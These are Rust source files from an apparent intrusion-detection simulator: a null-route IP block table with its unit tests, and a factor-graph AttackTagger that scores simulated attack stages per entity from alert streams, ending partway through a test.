    pub fn stats(&self) -> TableStats {
        self.stats
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn addr(s: &str) -> Ipv4Addr {
        s.parse().unwrap()
    }

    #[test]
    fn block_and_lookup() {
        let mut t = NullRouteTable::new();
        t.block(
            addr("103.102.1.1"),
            "mass-scanner",
            SimTime::from_secs(0),
            None,
        );
        assert!(t.is_blocked(addr("103.102.1.1"), SimTime::from_secs(100)));
        assert!(!t.is_blocked(addr("8.8.8.8"), SimTime::from_secs(100)));
        let s = t.stats();
        assert_eq!(s.lookups, 2);
        assert_eq!(s.hits, 1);
    }

    #[test]
    fn ttl_expiry() {
        let mut t = NullRouteTable::new();
        t.block(
            addr("1.1.1.1"),
            "temp",
            SimTime::from_secs(0),
            Some(SimDuration::from_secs(60)),
        );
        assert!(t.is_blocked(addr("1.1.1.1"), SimTime::from_secs(59)));
        assert!(!t.is_blocked(addr("1.1.1.1"), SimTime::from_secs(61)));
        assert_eq!(t.len(), 0, "expired entry lazily removed");
        assert_eq!(t.stats().blocks_expired, 1);
    }

    #[test]
    fn unblock_removes() {
        let mut t = NullRouteTable::new();
        t.block(addr("1.1.1.1"), "x", SimTime::from_secs(0), None);
        let removed = t.unblock(addr("1.1.1.1")).unwrap();
        assert_eq!(removed.reason, "x");
        assert!(t.unblock(addr("1.1.1.1")).is_none());
        assert!(!t.is_blocked(addr("1.1.1.1"), SimTime::from_secs(1)));
    }

    #[test]
    fn sweep_removes_expired_in_bulk() {
        let mut t = NullRouteTable::new();
        for i in 0..10 {
            t.block(
                addr(&format!("10.0.0.{i}")),
                "ttl",
                SimTime::from_secs(0),
                Some(SimDuration::from_secs(10)),
            );
        }
        t.block(addr("10.0.1.1"), "permanent", SimTime::from_secs(0), None);
        assert_eq!(t.sweep(SimTime::from_secs(100)), 10);
        assert_eq!(t.len(), 1);
    }

    #[test]
    fn reblock_overwrites() {
        let mut t = NullRouteTable::new();
        t.block(
            addr("1.1.1.1"),
            "first",
            SimTime::from_secs(0),
            Some(SimDuration::from_secs(5)),
        );
        t.block(addr("1.1.1.1"), "second", SimTime::from_secs(1), None);
        assert_eq!(t.query(addr("1.1.1.1")).unwrap().reason, "second");
        assert!(t.is_blocked(addr("1.1.1.1"), SimTime::from_secs(1_000)));
    }

    #[test]
    fn redelivered_block_is_an_idempotent_duplicate() {
        let mut t = NullRouteTable::new();
        let a = addr("203.0.113.7");
        assert_eq!(
            t.block(a, "retry-me", SimTime::from_secs(0), None),
            BlockOutcome::Added
        );
        // A retrying response path re-delivers the same block: absorbed,
        // not double-counted, entry untouched.
        assert_eq!(
            t.block(a, "retry-me", SimTime::from_secs(30), None),
            BlockOutcome::Duplicate
        );
        let entry = t.query(a).unwrap().clone();
        assert_eq!(entry.inserted, SimTime::from_secs(0), "original kept");
        let s = t.stats();
        assert_eq!(
            (s.blocks_added, s.blocks_duplicate, s.blocks_updated),
            (1, 1, 0)
        );

        // A different reason is a deliberate overwrite.
        assert_eq!(
            t.block(a, "escalated", SimTime::from_secs(60), None),
            BlockOutcome::Updated
        );
        assert_eq!(t.query(a).unwrap().reason, "escalated");
        assert_eq!(t.stats().blocks_updated, 1);
    }

    #[test]
    fn block_retry_unblock_reblock_sequence() {
        // The satellite regression: block → retry → unblock → re-block.
        let mut t = NullRouteTable::new();
        let a = addr("198.51.100.9");
        assert_eq!(
            t.block(a, "r", SimTime::from_secs(0), None),
            BlockOutcome::Added
        );
        assert_eq!(
            t.block(a, "r", SimTime::from_secs(1), None),
            BlockOutcome::Duplicate
        );
        assert!(t.unblock(a).is_some());
        assert_eq!(
            t.block(a, "r", SimTime::from_secs(2), None),
            BlockOutcome::Added
        );
        let s = t.stats();
        assert_eq!(
            s.blocks_added, 2,
            "re-block after unblock is a fresh install"
        );
        assert_eq!(s.blocks_duplicate, 1);
        assert_eq!(s.blocks_removed, 1);
    }

    #[test]
    fn reblock_after_expiry_counts_as_added() {
        let mut t = NullRouteTable::new();
        let a = addr("192.0.2.4");
        t.block(
            a,
            "r",
            SimTime::from_secs(0),
            Some(SimDuration::from_secs(10)),
        );
        // Entry expired (still resident, but inactive): same reason is a
        // fresh install, not a duplicate.
        assert_eq!(
            t.block(a, "r", SimTime::from_secs(20), None),
            BlockOutcome::Added
        );
        assert_eq!(t.stats().blocks_added, 2);
        assert_eq!(t.stats().blocks_duplicate, 0);
    }
}
