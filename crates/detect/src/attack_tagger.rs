//! The factor-graph AttackTagger detector.
//!
//! Per §IV and refs [5], [6]: each attack entity (user account or source
//! address) carries a chain of hidden attack stages linked by learned
//! transition factors, with learned observation factors tying each stage to
//! the observed alert. Online, the detector maintains the *filtered*
//! posterior P(stage | alerts so far) — strictly causal, as preemption
//! requires — and raises a detection the moment the probability that the
//! entity is in an attack stage (but not yet at damage) crosses the
//! decision threshold.
//!
//! This is exactly Remark 2's prescription: the model "must incorporate
//! conditional probabilities of an alert being in a successful attack and
//! normal operational conditions".

use alertlib::alert::{Alert, EntityId};
use alertlib::taxonomy::AlertKind;
use factorgraph::chain::ChainModel;
use factorgraph::timing::GAP_NONE;
use serde::{Deserialize, Serialize};
use simnet::rng::{FxHashMap, FxHashSet};
use simnet::time::{SimDuration, SimTime};

use crate::correlate::CorrelationPolicy;
use crate::stage::Stage;

/// Per-entity temporal evidence policy (Insight 3 hardening).
///
/// The order-only filter treats an entity's alert stream as one endless
/// session: evidence accumulates forever, and the hours between alerts
/// carry no information. This policy adds the time axis in three ways:
///
/// - **Evidence decay** — before folding a new alert, the entity's
///   posterior is relaxed toward the model prior by
///   `λ = 0.5^(gap / decay_half_life)`: stale suspicion fades instead of
///   compounding across unrelated activity (the false-positive side of
///   temporal hardening).
/// - **Session timeout** — a gap beyond `session_timeout` ends the
///   entity's session outright: the filter restarts from the prior, as if
///   the entity were first seen (detection latching is preserved).
/// - **Gap observations** — when the model carries a
///   [`factorgraph::timing::GapModel`], the quantized gap preceding each
///   alert is folded in as one more observation factor, so low-and-slow
///   tempo *adds* evidence instead of hiding the attack.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct TemporalPolicy {
    /// Half-life of accumulated per-entity evidence; `None` disables
    /// decay.
    pub decay_half_life: Option<SimDuration>,
    /// Idle gap after which the entity's session is considered over and
    /// the filter restarts from the prior; `None` disables.
    pub session_timeout: Option<SimDuration>,
    /// Fold the model's quantized gap observations into the online filter
    /// (no-op when the model has no gap tables).
    pub gap_observations: bool,
    /// Degraded-mode duplicate suppression: an alert whose `(ts, kind)`
    /// exactly matches one already folded into the same entity within
    /// this window is dropped as a telemetry re-delivery instead of
    /// double-counting as evidence. `None` (the default) disables
    /// suppression, preserving the historical filter byte for byte.
    #[serde(default)]
    pub dedup_window: Option<SimDuration>,
}

impl Default for TemporalPolicy {
    fn default() -> Self {
        TemporalPolicy {
            decay_half_life: Some(SimDuration::from_hours(48)),
            session_timeout: Some(SimDuration::from_days(7)),
            gap_observations: true,
            dedup_window: None,
        }
    }
}

impl TemporalPolicy {
    /// The order-only behaviour of the pre-temporal tagger: no decay, no
    /// timeout, gaps ignored.
    pub fn disabled() -> TemporalPolicy {
        TemporalPolicy {
            decay_half_life: None,
            session_timeout: None,
            gap_observations: false,
            dedup_window: None,
        }
    }
}

/// Decision configuration.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct TaggerConfig {
    /// Posterior mass over attack stages required to raise a detection.
    pub threshold: f64,
    /// Stages counted as "attack underway".
    pub decision_stages: Vec<Stage>,
    /// Cap on per-entity history; older alerts are already folded into the
    /// forward message, so this only bounds the reported context.
    pub max_context: usize,
    /// Per-entity temporal evidence policy (decay / timeout / gap
    /// observations). Configs serialized before the temporal extension
    /// deserialize to the default policy.
    #[serde(default)]
    pub temporal: TemporalPolicy,
    /// Opt-in cross-entity campaign correlation
    /// ([`crate::correlate::CampaignCorrelator`]). `None` — the default,
    /// and what pre-correlation configs deserialize to — keeps the
    /// detector strictly per-entity. The tagger itself never reads this;
    /// it is the policy carrier for the layer above (pipeline builder /
    /// [`crate::correlate::CorrelatedTagger`]).
    #[serde(default)]
    pub correlation: Option<CorrelationPolicy>,
    /// Soft bound on resident per-entity state (long-lived service mode).
    /// `0` — the default, and the historical behaviour — tracks every
    /// entity forever. With a bound set, reaching it triggers a sweep that
    /// evicts entities whose (blackout-net) idle gap exceeds the temporal
    /// policy's `session_timeout` — exactly the state PR 5 already defines
    /// as dead, so eviction is detection-neutral: the next alert would
    /// have restarted the filter from the prior anyway. Detection latches
    /// of evicted entities are preserved in a compact side set (one id per
    /// *detected* entity), so a re-arriving attacker is never re-counted.
    /// Without a `session_timeout` no state is ever provably dead and the
    /// bound is inert.
    #[serde(default)]
    pub max_entities: usize,
}

impl Default for TaggerConfig {
    fn default() -> Self {
        TaggerConfig {
            threshold: 0.8,
            decision_stages: vec![Stage::Foothold, Stage::Escalation, Stage::Lateral],
            max_context: 64,
            temporal: TemporalPolicy::default(),
            correlation: None,
            max_entities: 0,
        }
    }
}

/// A raised detection.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct Detection {
    /// When the detection fired.
    pub ts: SimTime,
    /// Index of the triggering alert within the entity's session.
    pub alert_index: usize,
    /// The triggering alert kind.
    pub trigger: AlertKind,
    /// Posterior mass over the decision stages at the trigger.
    pub score: f64,
    /// Most likely stage at the trigger.
    pub stage: Stage,
}

/// One [`AttackTagger::observe_scored`] result: the (latched) detection
/// verdict plus the entity's post-observe attack mass, reported on every
/// call. The score is what the campaign correlator links and fuses on.
#[derive(Debug, Clone, PartialEq)]
pub struct Observation {
    /// First threshold crossing for this entity, if it happened now.
    pub detection: Option<Detection>,
    /// Posterior mass over the decision stages after folding this alert
    /// (current mass when the alert was dropped as a duplicate).
    pub attack_score: f64,
}

/// Serializable per-entity filter state — one entry of a
/// [`TaggerSnapshot`]. Entities are keyed by canonical string key
/// (`user:…` / `addr:…`), not raw ids, so a snapshot restores correctly in
/// a fresh process whose intern table assigns different ids.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct EntityStateSnapshot {
    /// Canonical entity key.
    pub entity: String,
    /// Filtered posterior over stages.
    pub alpha: Vec<f64>,
    /// Alerts folded in since the last session restart.
    pub steps: usize,
    /// Detection latch.
    pub detected: bool,
    /// Gap anchor.
    pub last_ts: SimTime,
    /// Duplicate-suppression ring, `(ts, kind index)`; `u16::MAX` kind
    /// marks an empty slot.
    pub recent: Vec<(SimTime, u16)>,
    /// Next ring slot to overwrite.
    pub recent_head: u8,
}

/// Serialized posteriors of an [`AttackTagger`] — the detector's share of
/// a service snapshot. Restoring it with
/// [`AttackTagger::import_state`] and replaying the stream tail yields
/// byte-identical detections to the uninterrupted run.
#[derive(Debug, Clone, PartialEq, Default, Serialize, Deserialize)]
pub struct TaggerSnapshot {
    /// Per-entity filter state, sorted by entity key.
    pub entities: Vec<EntityStateSnapshot>,
    /// Canonical keys of evicted entities whose detection latch is held.
    pub evicted_latches: Vec<String>,
    /// Alerts dropped as telemetry duplicates so far.
    pub duplicates_suppressed: u64,
    /// Entities evicted by the bounded-state sweep so far.
    pub entities_evicted: u64,
}

/// Slots in the per-entity duplicate-suppression ring. Telemetry
/// duplicates arrive within a handful of records of the original (the
/// fault model's reorder window is bounded), so a small fixed ring
/// suffices and keeps the hot path allocation-free.
const DEDUP_SLOTS: usize = 8;

/// Sentinel kind index marking an empty dedup slot (no [`AlertKind`]
/// reaches `u16::MAX`).
const DEDUP_EMPTY: u16 = u16::MAX;

/// Per-entity forward-filter state.
#[derive(Debug, Clone)]
struct EntityState {
    /// Current filtered posterior over stages.
    alpha: Vec<f64>,
    /// Number of alerts folded in (since the last session timeout).
    steps: usize,
    /// Whether a detection has already been raised (latched).
    detected: bool,
    /// Timestamp of the entity's previous alert (gap anchor).
    last_ts: SimTime,
    /// Ring of recently folded `(ts, kind)` pairs for duplicate
    /// suppression; only maintained when the policy sets a window.
    recent: [(SimTime, u16); DEDUP_SLOTS],
    /// Next ring slot to overwrite.
    recent_head: u8,
}

/// The online AttackTagger.
#[derive(Debug, Clone)]
pub struct AttackTagger {
    model: ChainModel,
    cfg: TaggerConfig,
    states: FxHashMap<EntityId, EntityState>,
    /// Scratch for the forward-filter step, reused across `observe`
    /// calls so the per-alert hot path does not allocate.
    scratch: Vec<f64>,
    /// Known telemetry blackout windows, sorted and merged. A gap that
    /// overlaps one is a sensor outage, not attacker silence: the
    /// overlapped span is excluded from session-timeout and gap-bin
    /// accounting (decay still uses wall-clock time — evidence really is
    /// that old).
    blackouts: Vec<(SimTime, SimTime)>,
    /// Alerts dropped as telemetry duplicates.
    duplicates_suppressed: u64,
    /// Detection latches of evicted entities (see
    /// [`TaggerConfig::max_entities`]): a re-arriving evicted attacker
    /// resumes `detected` instead of being re-counted.
    evicted_latches: FxHashSet<EntityId>,
    /// Entities evicted so far.
    entities_evicted: u64,
    /// Don't rescan for dead state until the map regrows to this length —
    /// keeps sweeps amortized O(1) per alert when nothing is expiring.
    sweep_floor: usize,
    /// Reused eviction id buffer (alloc-free steady state).
    evict_scratch: Vec<EntityId>,
}

impl AttackTagger {
    /// Create from a trained chain model (states = [`Stage::COUNT`],
    /// observations = [`AlertKind::COUNT`]).
    pub fn new(model: ChainModel, cfg: TaggerConfig) -> AttackTagger {
        assert_eq!(
            model.n_states(),
            Stage::COUNT,
            "model must have one state per stage"
        );
        assert_eq!(
            model.n_obs(),
            AlertKind::COUNT,
            "model must cover the full taxonomy"
        );
        AttackTagger {
            model,
            cfg,
            states: FxHashMap::default(),
            scratch: vec![0.0; Stage::COUNT],
            blackouts: Vec::new(),
            duplicates_suppressed: 0,
            evicted_latches: FxHashSet::default(),
            entities_evicted: 0,
            sweep_floor: 0,
            evict_scratch: Vec::new(),
        }
    }

    pub fn config(&self) -> &TaggerConfig {
        &self.cfg
    }

    /// Replace the per-entity temporal policy (decay / timeout / gap
    /// observations). Takes effect from the next [`AttackTagger::observe`];
    /// existing per-entity posteriors are kept.
    pub fn set_temporal(&mut self, temporal: TemporalPolicy) {
        self.cfg.temporal = temporal;
    }

    /// Install (or clear) the carried cross-entity correlation policy.
    /// The tagger itself never consults it — see
    /// [`TaggerConfig::correlation`].
    pub fn set_correlation(&mut self, correlation: Option<CorrelationPolicy>) {
        self.cfg.correlation = correlation;
    }

    /// Override the per-entity state budget (see
    /// [`TaggerConfig::max_entities`]); `0` disables the bound. Takes
    /// effect from the next [`AttackTagger::observe`].
    pub fn set_max_entities(&mut self, max_entities: usize) {
        self.cfg.max_entities = max_entities;
    }

    pub fn model(&self) -> &ChainModel {
        &self.model
    }

    /// Declare known telemetry blackout windows (operator knowledge —
    /// e.g. a scheduled collector outage, or the spans of a
    /// `FaultPlan`). Overlapping/unsorted windows are merged. Gaps that
    /// overlap a declared window are shrunk by the overlap before the
    /// session-timeout and gap-observation logic runs, so a dark sensor
    /// is not read as attacker silence.
    pub fn set_blackouts(&mut self, mut windows: Vec<(SimTime, SimTime)>) {
        windows.retain(|(s, e)| e > s);
        windows.sort();
        let mut merged: Vec<(SimTime, SimTime)> = Vec::with_capacity(windows.len());
        for (s, e) in windows {
            match merged.last_mut() {
                Some((_, last_e)) if s <= *last_e => {
                    if e > *last_e {
                        *last_e = e;
                    }
                }
                _ => merged.push((s, e)),
            }
        }
        self.blackouts = merged;
    }

    /// The declared blackout windows (sorted, merged).
    pub fn blackouts(&self) -> &[(SimTime, SimTime)] {
        &self.blackouts
    }

    /// Alerts dropped as telemetry re-deliveries by the dedup window.
    pub fn duplicates_suppressed(&self) -> u64 {
        self.duplicates_suppressed
    }

    /// Total overlap of `[from, to]` with the declared blackout windows.
    pub fn blackout_overlap(&self, from: SimTime, to: SimTime) -> SimDuration {
        Self::overlap_of(&self.blackouts, from, to)
    }

    fn overlap_of(blackouts: &[(SimTime, SimTime)], from: SimTime, to: SimTime) -> SimDuration {
        let mut overlap = SimDuration::ZERO;
        for &(s, e) in blackouts {
            if s >= to {
                break;
            }
            if e <= from {
                continue;
            }
            let lo = if s > from { s } else { from };
            let hi = if e < to { e } else { to };
            overlap = overlap.saturating_add(hi.saturating_since(lo));
        }
        overlap
    }

    /// One O(S²) forward-filter step folding `obs` (and, when known, the
    /// quantized gap bin preceding it) into `alpha`, staged through
    /// `scratch` (no allocation).
    fn step(
        model: &ChainModel,
        alpha: &mut [f64],
        scratch: &mut [f64],
        steps: usize,
        obs: usize,
        gap_bin: usize,
    ) {
        let s_n = Stage::COUNT;
        if steps == 0 {
            for (s, n) in scratch.iter_mut().enumerate() {
                *n = model.prior()[s] * model.emit(s, obs);
            }
        } else {
            for (s, n) in scratch.iter_mut().enumerate() {
                let mut acc = 0.0;
                for (ps, &a) in alpha.iter().enumerate() {
                    acc += a * model.trans(ps, s);
                }
                *n = acc * model.emit(s, obs) * model.gap_emit(s, gap_bin);
            }
        }
        let norm: f64 = scratch.iter().sum();
        if norm > 0.0 {
            for x in scratch.iter_mut() {
                *x /= norm;
            }
        } else {
            let u = 1.0 / s_n as f64;
            scratch.fill(u);
        }
        alpha.copy_from_slice(scratch);
    }

    /// Relax `alpha` toward the model prior by `λ = 0.5^(gap/half_life)`:
    /// both operands are distributions, so the mixture needs no
    /// renormalization.
    fn decay(model: &ChainModel, alpha: &mut [f64], gap: SimDuration, half_life: SimDuration) {
        let hl = half_life.as_secs_f64();
        if hl <= 0.0 {
            return;
        }
        let lambda = 0.5f64.powf(gap.as_secs_f64() / hl);
        for (a, &p) in alpha.iter_mut().zip(model.prior()) {
            *a = lambda * *a + (1.0 - lambda) * p;
        }
    }

    /// Observe one alert online. Returns a detection the first time the
    /// entity's posterior crosses the threshold (latched per entity).
    ///
    /// Allocation-free per call for already-tracked entities — the state
    /// map is keyed by the integer [`EntityId`], so no key string is ever
    /// built; a new entity allocates its posterior vector once.
    pub fn observe(&mut self, alert: &Alert) -> Option<Detection> {
        self.observe_scored(alert).detection
    }

    /// [`AttackTagger::observe`], but also reporting the entity's
    /// post-observe posterior mass over the decision stages — computed on
    /// every call, threshold or not, latched or not. This is the
    /// per-entity feature the campaign correlator consumes; keeping it on
    /// the observe path means a sharded executor needs no second pass
    /// over per-entity state.
    pub fn observe_scored(&mut self, alert: &Alert) -> Observation {
        // Bounded-state mode: at the budget, sweep state the temporal
        // policy already declares dead (idle past the session timeout, net
        // of blackouts). Detection-neutral — see `TaggerConfig::max_entities`.
        if self.cfg.max_entities != 0
            && self.states.len() >= self.cfg.max_entities
            && self.states.len() >= self.sweep_floor
        {
            self.sweep_expired(alert.ts);
        }
        let id = alert.entity.id();
        // Invariant: a tracked entity is never in `evicted_latches`, so a
        // hit here means an evicted-but-detected entity is re-arriving —
        // its fresh state resumes with the latch set (no double-count).
        let latched = !self.evicted_latches.is_empty() && self.evicted_latches.remove(&id);
        let temporal = &self.cfg.temporal;
        let state = self.states.entry(id).or_insert_with(|| EntityState {
            alpha: vec![0.0; Stage::COUNT],
            steps: 0,
            detected: latched,
            last_ts: alert.ts,
            recent: [(SimTime::EPOCH, DEDUP_EMPTY); DEDUP_SLOTS],
            recent_head: 0,
        });
        let obs = alert.kind.index();
        // Degraded-mode duplicate suppression: an exact `(ts, kind)`
        // re-delivery within the window is telemetry duplication, not new
        // evidence — drop it before it touches the filter.
        if let Some(window) = temporal.dedup_window {
            // The ring remembers the last few folded alerts; an entry
            // older than the window (relative to the incoming alert) can
            // no longer match — re-deliveries carry the original
            // timestamp, so a live duplicate always compares equal.
            let duplicate = state.recent.iter().any(|&(ts, kind)| {
                kind == obs as u16 && ts == alert.ts && alert.ts.saturating_since(ts) <= window
            });
            if duplicate {
                self.duplicates_suppressed += 1;
                let attack_score = if state.steps > 0 {
                    Self::decision_mass(&self.cfg.decision_stages, &state.alpha)
                } else {
                    0.0
                };
                return Observation {
                    detection: None,
                    attack_score,
                };
            }
            state.recent[state.recent_head as usize] = (alert.ts, obs as u16);
            state.recent_head = (state.recent_head + 1) % DEDUP_SLOTS as u8;
        }
        // Temporal policy: the gap since the entity's previous alert ends
        // the session (timeout), fades stale evidence (decay), and is
        // itself an observation (quantized gap factor). Known blackout
        // spans are subtracted from the gap first — a dark sensor is not
        // attacker silence — while decay keeps wall-clock time (the
        // evidence really is that old).
        let mut gap_bin = GAP_NONE;
        if state.steps > 0 {
            let gap = alert.ts.saturating_since(state.last_ts);
            let effective_gap = if self.blackouts.is_empty() {
                gap
            } else {
                gap.saturating_sub(Self::overlap_of(&self.blackouts, state.last_ts, alert.ts))
            };
            if temporal
                .session_timeout
                .is_some_and(|limit| effective_gap > limit)
            {
                state.steps = 0;
            } else {
                if let Some(half_life) = temporal.decay_half_life {
                    Self::decay(&self.model, &mut state.alpha, gap, half_life);
                }
                if temporal.gap_observations {
                    gap_bin = self.model.gap_bin(effective_gap.as_secs_f64());
                }
            }
        }
        state.last_ts = alert.ts;
        Self::step(
            &self.model,
            &mut state.alpha,
            &mut self.scratch,
            state.steps,
            obs,
            gap_bin,
        );
        state.steps += 1;
        let score = Self::decision_mass(&self.cfg.decision_stages, &state.alpha);
        if state.detected || score < self.cfg.threshold {
            return Observation {
                detection: None,
                attack_score: score,
            };
        }
        state.detected = true;
        let mut best = 0;
        for s in 1..Stage::COUNT {
            if state.alpha[s] > state.alpha[best] {
                best = s;
            }
        }
        Observation {
            detection: Some(Detection {
                ts: alert.ts,
                alert_index: state.steps - 1,
                trigger: alert.kind,
                score,
                stage: Stage::from_index(best),
            }),
            attack_score: score,
        }
    }

    /// Posterior mass over the configured decision stages.
    fn decision_mass(stages: &[Stage], alpha: &[f64]) -> f64 {
        stages.iter().map(|s| alpha[s.index()]).sum()
    }

    /// Evict every entity whose blackout-net idle gap (relative to `now`)
    /// exceeds the session timeout — state the temporal policy defines as
    /// dead, whose next alert would restart the filter from the prior
    /// regardless. Latches of detected entities move to the compact side
    /// set. Without a `session_timeout` nothing is provably dead, so the
    /// sweep is a no-op.
    fn sweep_expired(&mut self, now: SimTime) {
        let Some(timeout) = self.cfg.temporal.session_timeout else {
            // Nothing can expire; don't rescan until the map grows again.
            self.sweep_floor = self.states.len() + (self.cfg.max_entities / 8).max(1);
            return;
        };
        let mut expired = std::mem::take(&mut self.evict_scratch);
        expired.clear();
        for (&id, state) in &self.states {
            let gap = now.saturating_since(state.last_ts);
            let effective = if self.blackouts.is_empty() {
                gap
            } else {
                gap.saturating_sub(Self::overlap_of(&self.blackouts, state.last_ts, now))
            };
            if effective > timeout {
                expired.push(id);
            }
        }
        for &id in &expired {
            if let Some(state) = self.states.remove(&id) {
                if state.detected {
                    self.evicted_latches.insert(id);
                }
                self.entities_evicted += 1;
            }
        }
        self.evict_scratch = expired;
        // Amortization: if the stream is so hot that little or nothing
        // expired, let the map grow an eighth of the budget before
        // scanning again (the bound is a soft target, not a hard cap).
        self.sweep_floor = self.states.len() + (self.cfg.max_entities / 8).max(1);
    }

    /// Entities evicted by the bounded-state sweep so far.
    pub fn entities_evicted(&self) -> u64 {
        self.entities_evicted
    }

    /// Detection latches currently held for evicted entities.
    pub fn evicted_latched_entities(&self) -> usize {
        self.evicted_latches.len()
    }

    /// The current filtered posterior for an entity — the allocation-free
    /// primary lookup, keyed by [`EntityId`] like the state map itself.
    pub fn posterior_id(&self, id: EntityId) -> Option<&[f64]> {
        self.states.get(&id).map(|s| s.alpha.as_slice())
    }

    /// String-key convenience over [`AttackTagger::posterior_id`] for
    /// tests and boundary callers holding a canonical key (`user:…` /
    /// `addr:…`).
    pub fn posterior(&self, entity_key: &str) -> Option<&[f64]> {
        self.posterior_id(EntityId::from_key(entity_key)?)
    }

    /// Ground-truth hook: whether a detection has latched for this entity
    /// (allocation-free, [`EntityId`]-keyed). Latches survive bounded-state
    /// eviction.
    pub fn is_detected_id(&self, id: EntityId) -> bool {
        self.states.get(&id).is_some_and(|s| s.detected) || self.evicted_latches.contains(&id)
    }

    /// String-key convenience over [`AttackTagger::is_detected_id`].
    pub fn is_detected(&self, entity_key: &str) -> bool {
        EntityId::from_key(entity_key).is_some_and(|id| self.is_detected_id(id))
    }

    /// Ground-truth hook: entities with a latched detection, in
    /// unspecified order — the allocation-free primary surface the
    /// correlator and eval hooks consume. For harnesses and tests that
    /// drive a tagger directly and want to cross-check a notification
    /// stream against detector state (the stream-executor path scores
    /// from notifications alone, since executors consume their detector).
    pub fn detected_entity_ids(&self) -> impl Iterator<Item = EntityId> + '_ {
        self.states
            .iter()
            .filter(|(_, s)| s.detected)
            .map(|(&id, _)| id)
            .chain(self.evicted_latches.iter().copied())
    }

    /// String-key convenience over
    /// [`AttackTagger::detected_entity_ids`]: canonical keys, allocated
    /// per item (tests only — hot paths use the id variant).
    pub fn detected_entities(&self) -> impl Iterator<Item = String> + '_ {
        self.detected_entity_ids().map(|id| id.key())
    }

    /// Ground-truth hook: alerts folded into an entity's filter so far
    /// (allocation-free, [`EntityId`]-keyed).
    pub fn entity_steps_id(&self, id: EntityId) -> Option<usize> {
        self.states.get(&id).map(|s| s.steps)
    }

    /// String-key convenience over [`AttackTagger::entity_steps_id`].
    pub fn entity_steps(&self, entity_key: &str) -> Option<usize> {
        self.entity_steps_id(EntityId::from_key(entity_key)?)
    }

    /// Forget all per-entity state (including evicted-entity latches).
    pub fn reset(&mut self) {
        self.states.clear();
        self.evicted_latches.clear();
        self.sweep_floor = 0;
    }

    /// Number of tracked entities.
    pub fn tracked_entities(&self) -> usize {
        self.states.len()
    }

    /// Serialize the per-entity posteriors (and eviction side state) for
    /// a service snapshot. Deterministic: entities and latches are sorted
    /// by canonical key. Resolves entity keys against the global scope;
    /// tenant pipelines use [`AttackTagger::export_state_in`].
    pub fn export_state(&self) -> TaggerSnapshot {
        self.export_state_in(&simnet::intern::SymScope::global())
    }

    /// [`AttackTagger::export_state`] resolving user symbols against an
    /// explicit scope.
    pub fn export_state_in(&self, scope: &simnet::intern::SymScope) -> TaggerSnapshot {
        let mut entities: Vec<EntityStateSnapshot> = self
            .states
            .iter()
            .map(|(id, s)| EntityStateSnapshot {
                entity: id.key_in(scope),
                alpha: s.alpha.clone(),
                steps: s.steps,
                detected: s.detected,
                last_ts: s.last_ts,
                recent: s.recent.to_vec(),
                recent_head: s.recent_head,
            })
            .collect();
        entities.sort_by(|a, b| a.entity.cmp(&b.entity));
        let mut evicted_latches: Vec<String> = self
            .evicted_latches
            .iter()
            .map(|id| id.key_in(scope))
            .collect();
        evicted_latches.sort();
        TaggerSnapshot {
            entities,
            evicted_latches,
            duplicates_suppressed: self.duplicates_suppressed,
            entities_evicted: self.entities_evicted,
        }
    }

    /// Replace this tagger's per-entity state with a snapshot previously
    /// produced by [`AttackTagger::export_state`] (possibly in another
    /// process — entity keys are re-interned here). Replaying the stream
    /// tail after a restore yields byte-identical detections to the
    /// uninterrupted run.
    ///
    /// # Panics
    /// Panics on a malformed snapshot (unparsable entity key or wrong
    /// posterior arity) — a snapshot is a trusted artifact, not input.
    pub fn import_state(&mut self, snap: &TaggerSnapshot) {
        self.import_state_in(snap, &simnet::intern::SymScope::global())
    }

    /// [`AttackTagger::import_state`] interning user symbols into an
    /// explicit scope.
    pub fn import_state_in(&mut self, snap: &TaggerSnapshot, scope: &simnet::intern::SymScope) {
        self.states.clear();
        self.evicted_latches.clear();
        for e in &snap.entities {
            let id = EntityId::from_key_in(&e.entity, scope)
                .unwrap_or_else(|| panic!("snapshot entity key {:?} is malformed", e.entity));
            assert_eq!(e.alpha.len(), Stage::COUNT, "snapshot posterior arity");
            let mut recent = [(SimTime::EPOCH, DEDUP_EMPTY); DEDUP_SLOTS];
            for (slot, &entry) in recent.iter_mut().zip(e.recent.iter()) {
                *slot = entry;
            }
            self.states.insert(
                id,
                EntityState {
                    alpha: e.alpha.clone(),
                    steps: e.steps,
                    detected: e.detected,
                    last_ts: e.last_ts,
                    recent,
                    recent_head: e.recent_head,
                },
            );
        }
        for key in &snap.evicted_latches {
            let id = EntityId::from_key_in(key, scope)
                .unwrap_or_else(|| panic!("snapshot latch key {key:?} is malformed"));
            self.evicted_latches.insert(id);
        }
        self.duplicates_suppressed = snap.duplicates_suppressed;
        self.entities_evicted = snap.entities_evicted;
        self.sweep_floor = 0;
    }

    /// Offline convenience: scan a whole session and return the first
    /// detection, as the evaluation harness does.
    pub fn scan(&self, alerts: &[Alert]) -> Option<Detection> {
        let mut fresh = AttackTagger {
            model: self.model.clone(),
            cfg: self.cfg.clone(),
            states: FxHashMap::default(),
            scratch: vec![0.0; Stage::COUNT],
            blackouts: self.blackouts.clone(),
            duplicates_suppressed: 0,
            evicted_latches: FxHashSet::default(),
            entities_evicted: 0,
            sweep_floor: 0,
            evict_scratch: Vec::new(),
        };
        for a in alerts {
            if let Some(d) = fresh.observe(a) {
                return Some(d);
            }
        }
        None
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::train::toy_training_model;
    use alertlib::alert::Entity;

    fn alert(t: u64, kind: AlertKind, user: &str) -> Alert {
        Alert::new(SimTime::from_secs(t), kind, Entity::User(user.into()))
    }

    #[test]
    fn benign_stream_stays_quiet() {
        let mut tagger = AttackTagger::new(toy_training_model(), TaggerConfig::default());
        for t in 0..50u64 {
            let a = alert(t, AlertKind::LoginSuccess, "alice");
            assert!(tagger.observe(&a).is_none(), "false positive at t={t}");
        }
    }

    #[test]
    fn s1_attack_detected_before_damage() {
        let mut tagger = AttackTagger::new(toy_training_model(), TaggerConfig::default());
        let seq = [
            (0, AlertKind::PortScan),
            (10, AlertKind::DownloadSensitive),
            (20, AlertKind::CompileKernelModule),
            (30, AlertKind::LogWipe),
            (40, AlertKind::DataExfiltration), // damage
        ];
        let mut detection = None;
        for (t, k) in seq {
            if let Some(d) = tagger.observe(&alert(t, k, "eve")) {
                detection = Some(d);
                break;
            }
        }
